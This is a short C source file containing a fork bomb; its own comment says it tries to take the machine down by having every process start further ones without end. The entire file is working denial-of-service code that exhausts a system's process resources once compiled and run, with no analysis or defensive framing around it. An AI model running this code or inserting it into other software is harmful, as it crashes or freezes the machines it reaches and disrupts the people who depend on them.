/* Tries to take the machine down: every process starts further ones, for ever. */
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
